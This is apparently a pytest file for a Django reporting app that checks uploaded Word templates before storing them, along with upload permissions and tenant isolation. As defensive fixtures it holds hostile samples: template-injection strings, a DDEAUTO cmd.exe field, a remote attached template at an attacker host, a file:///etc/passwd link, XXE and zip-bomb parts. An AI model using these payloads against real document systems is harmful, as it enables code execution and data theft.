"""Word templates of a county: tried before they are kept; what is refused, and with which sentence; nothing is run."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from docx import Document

from lib.papers.filling import fill
from lib.papers.language import sample
from lib.papers.refusals import TemplateRefused
from lib.papers.trial import try_template
from reports.models import PaperTemplate
from reports.papers.fields import PAPERS
from reports.queries.templates import own_template, template_in_use
from tenancy.models import Tenant
from tenancy.scope import tenant_scope
from tests.factories import make_member, make_tenant

FIELDS = {"县": None, "规则": ("名称", "应完成")}


def word(*lines: str) -> bytes:
    """A document with these paragraphs."""
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    """The document with one part added or replaced."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as after:
        for entry in before.infolist():
            if entry.filename != name:
                after.writestr(entry, before.read(entry.filename))
        after.writestr(name, part)
    return file.getvalue()


def read_part(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return package.read(name)


def refused(content: bytes) -> TemplateRefused:
    with pytest.raises(TemplateRefused) as caught:
        fill(content, FIELDS, sample(FIELDS))
    return caught.value


def external(target: str, kind: str) -> bytes:
    content = word("{{ 县 }}")
    rels = read_part(content, "word/_rels/document.xml.rels").decode()
    relation = (
        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    return with_part(content, "word/_rels/document.xml.rels", rels.replace("</Relationships>", relation).encode())


def field_of_word(instruction: str) -> bytes:
    content = word("{{ 县 }}")
    body = read_part(content, "word/document.xml").decode()
    field = f"<w:p><w:r><w:instrText>{instruction}</w:instrText></w:r></w:p><w:sectPr"
    return with_part(content, "word/document.xml", body.replace("<w:sectPr", field, 1).encode())


def test_fields_and_rows_are_filled_as_text() -> None:
    content = word("{{ 县 }}报告", "{%p for 行 in 规则 %}", "{{ 行.名称 }}：{{ 行.应完成 }}", "{%p endfor %}")
    values = {"县": "<w:br/>甲县 & {{ 7*7 }}", "规则": [{"名称": "集中劳动", "应完成": "3"}, {"名称": "接访", "应完成": "4"}]}
    lines = [one.text for one in Document(io.BytesIO(fill(content, FIELDS, values))).paragraphs]
    assert lines == ["<w:br/>甲县 & {{ 7*7 }}报告", "集中劳动：3", "接访：4"]


@pytest.mark.parametrize(
    ("text", "code", "told"),
    [
        ("{{ 县长 }}", "unknown_field", "县长"),
        ("{{ 县.名称 }}", "unknown_field", "县.名称"),
        ("{{ 规则 }}", "is_a_list", "规则"),
        ("{% for 行 in 县 %}{{ 行.名称 }}{% endfor %}", "not_a_list", "县"),
        ("{% for 行 in 规则 %}{{ 行.次数 }}{% endfor %}", "unknown_field", "行.次数"),
        ("{% for 行 in 规则 %}{% for 列 in 规则 %}{{ 列.名称 }}{% endfor %}{% endfor %}", "too_deep", ""),
        ("{{ 县 }}{% for 行 in 规则 %}", "syntax", ""),
        ("{{ 县", "syntax", ""),
        ("{{ 县|upper }}", "not_allowed", "|"),
        ("{{ 县.__class__ }}", "unknown_field", "__class__"),
        ("{{ ''.__class__.__mro__ }}", "not_allowed", ""),
        ("{{ range(10) }}", "not_allowed", "( )"),
        ("{{ 县 * 1000000000 }}", "not_allowed", ""),
        ("{% set a = 县 %}", "not_allowed", "set"),
        ("{% include 'x' %}", "not_allowed", "include"),
        ("{% import 'os' as o %}", "not_allowed", "import"),
        ("{{ cycler }}", "unknown_field", "cycler"),
        ("{{ self }}", "unknown_field", "self"),
        ("{% for a in '12345678'.split() %}{% endfor %}", "not_allowed", "for"),
        ("没有字段", "no_fields", ""),
    ],
)
def test_what_a_template_may_not_say_is_refused_with_its_name(text: str, code: str, told: str) -> None:
    problem = refused(word(text))
    assert problem.code == code
    assert told in problem.message


def test_a_field_in_a_header_is_checked_like_one_in_the_body() -> None:
    document = Document()
    document.add_paragraph("{{ 县 }}")
    document.sections[0].header.paragraphs[0].text = "{{ 密码 }}"
    file = io.BytesIO()
    document.save(file)
    assert refused(file.getvalue()).params == {"field": "密码"}


def test_a_title_in_the_properties_runs_nothing() -> None:
    document = Document()
    document.add_paragraph("{{ 县 }}")
    document.core_properties.title = "{{ ''.__class__ }}"
    file = io.BytesIO()
    document.save(file)
    assert refused(file.getvalue()).code == "not_allowed"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "empty_file"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 600, "old_doc"),
        (b"%PDF-1.7", "not_word"),
        (b"PK\x03\x04 broken", "damaged"),
        (with_part(word("{{ 县 }}"), "word/vbaProject.bin", b"x"), "macros"),
        (with_part(word("{{ 县 }}"), "word/embeddings/oleObject1.bin", b"x"), "embedded"),
        (with_part(word("{{ 县 }}"), "word/document.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'), "dangerous_xml"),
        (with_part(word("{{ 县 }}"), "word/document.xml", b"<not-xml"), "damaged"),
        (with_part(word("{{ 县 }}"), "word/big.xml", b"<x>" + b" " * 5_000_000 + b"</x>"), "unpacks_too_big"),
        (external("file:///etc/passwd", "image"), "outside"),
        (external("http://attacker.invalid/t.dotm", "attachedTemplate"), "outside"),
        (field_of_word("DDEAUTO c:\\\\cmd.exe"), "outside"),
        (field_of_word('INCLUDETEXT "http://attacker.invalid/x"'), "outside"),
        (b"PK\x03\x04" + b"0" * (2 * 1024 * 1024), "too_big"),
    ],
)
def test_files_that_are_no_plain_word_document_are_refused(content: bytes, code: str) -> None:
    problem = refused(content)
    assert problem.code == code
    assert len(problem.message) > 10


def test_a_link_to_a_page_may_stay() -> None:
    content = external("https://www.example.gov.cn/", "hyperlink")
    assert fill(content, FIELDS, {"县": "甲县"})


def test_a_template_that_takes_too_long_is_stopped() -> None:
    with pytest.raises(TemplateRefused) as caught:
        try_template(word("{{ 县 }}"), FIELDS, seconds=0.01)
    assert caught.value.code == "too_heavy"


@pytest.mark.parametrize("kind", ["month", "notice"])
def test_the_products_own_templates_fill_every_field_they_name(kind: str) -> None:
    fields = PAPERS[kind].fields
    made = Document(io.BytesIO(fill(own_template(kind), fields, sample(fields))))
    text = "\n".join([*(one.text for one in made.paragraphs), *(c.text for t in made.tables for r in t.rows for c in r.cells)])
    assert "{" not in text
    assert "示例" in text
    try_template(own_template(kind), fields)


@pytest.fixture
def tenant(db: None) -> Iterator[Tenant]:
    return make_tenant()  # type: ignore[return-value]


def signed_in(tenant: Tenant, role: str) -> Client:
    client = Client()
    client.force_login(make_member(tenant, role), backend="tenancy.backends.AccountBackend")
    return client


def post(client: Client, tenant: Tenant, content: bytes, path: str = "month/keep/") -> int:
    upload = SimpleUploadedFile("我县模板.docx", content)
    response = client.post(f"/{tenant.slug}/reports/templates/{path}", {"file": upload})
    client.page = response.content.decode()  # type: ignore[attr-defined]
    return response.status_code


def test_the_administrator_puts_a_template_to_use_and_takes_it_out_again(tenant: Tenant) -> None:
    client, content = signed_in(tenant, "CA"), word("{{ 县 }}{{ 月份 }}：应完成{{ 应完成 }}")
    assert post(client, tenant, content) == 302
    with tenant_scope(tenant):
        assert template_in_use("month").content == content
    assert client.get(f"/{tenant.slug}/reports/templates/month/").content == content
    assert "我县模板.docx" in client.get(f"/{tenant.slug}/reports/templates/").content.decode()
    assert client.post(f"/{tenant.slug}/reports/templates/month/drop/").status_code == 302
    with tenant_scope(tenant):
        assert template_in_use("month").content == own_template("month")
        assert PaperTemplate.objects.count() == 1


def test_a_broken_template_is_refused_on_the_page_by_the_name_of_its_unknown_field(tenant: Tenant) -> None:
    client = signed_in(tenant, "CA")
    assert post(client, tenant, word("{{ 县长姓名 }}")) == 422
    assert "县长姓名" in client.page  # type: ignore[attr-defined]
    with tenant_scope(tenant):
        assert not PaperTemplate.objects.exists()


@pytest.mark.parametrize(("role", "reads"), [("CS", 200), ("AU", 200), ("UL", 403), ("VS", 403), ("IN", 403)])
def test_only_the_administrator_changes_templates(tenant: Tenant, role: str, reads: int) -> None:
    client = signed_in(tenant, role)
    assert client.get(f"/{tenant.slug}/reports/templates/").status_code == reads
    assert post(client, tenant, word("{{ 县 }}")) == 403
    with tenant_scope(tenant):
        assert not PaperTemplate.objects.exists()


def test_another_countys_template_is_neither_used_nor_seen(tenant: Tenant) -> None:
    other = make_tenant("nanhai", "440605", "南海区")
    assert post(signed_in(other, "CA"), other, word("{{ 县 }}邻县密语")) == 302
    client = signed_in(tenant, "CA")
    with tenant_scope(tenant):
        assert template_in_use("month").content == own_template("month")
    assert client.get(f"/{tenant.slug}/reports/templates/month/").content == own_template("month")


def test_there_is_no_template_of_another_name(tenant: Tenant) -> None:
    client = signed_in(tenant, "CA")
    assert client.get(f"/{tenant.slug}/reports/templates/passwd/").status_code == 404
    assert post(client, tenant, word("{{ 县 }}"), "passwd/keep/") == 404
